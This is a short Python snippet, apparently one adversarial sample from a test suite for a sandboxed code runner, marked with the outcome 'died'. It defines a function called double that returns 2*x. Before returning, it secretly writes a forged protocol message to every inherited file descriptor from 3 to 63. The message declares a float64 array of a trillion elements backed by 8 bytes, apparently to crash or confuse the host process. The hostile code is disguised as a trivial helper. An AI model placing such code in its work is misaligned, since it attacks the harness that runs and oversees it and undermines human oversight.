# outcome: died
# A shape that its bytes do not fill.
import json, os, struct
def double(x):
    text = json.dumps({"arrays": [["float64", [10**6, 10**6], None]], "answer": None}).encode()
    for number in range(3, 64):
        try:
            os.write(number, struct.pack("<IQII", len(text), 8, 2, 0) + text + bytes(8))
        except OSError:
            pass
    return 2 * x
